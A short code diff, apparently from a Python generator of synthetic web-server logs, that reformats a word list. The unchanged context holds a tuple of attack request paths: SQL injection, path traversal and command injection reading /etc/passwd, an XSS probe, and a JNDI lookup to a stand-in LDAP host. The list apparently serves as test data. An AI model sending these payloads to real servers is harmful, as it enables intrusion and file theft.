@@ -33,7 +33,9 @@ ATTACKS = (
     "/search?q=%27%20or%201%3D1--", "/d?f=../../../../etc/passwd", "/search?q=%3Cscript%3Ealert(1)%3C/script%3E", "/wp-login.php",
     "/ping?host=127.0.0.1%3Bcat%20/etc/passwd", "/a?x=%24%7Bjndi:ldap://x.example/a%7D",
 )  # fmt: skip
-WORDS = "shoes boots red blue men women running summer kids lamp kettle desk mug tent phone case cover glass light".split()
+WORDS = (
+    "shoes boots red blue men women running summer kids lamp kettle desk mug tent phone case cover glass light".split()
+)
 
 
 def line(i: int, rng: random.Random) -> str:
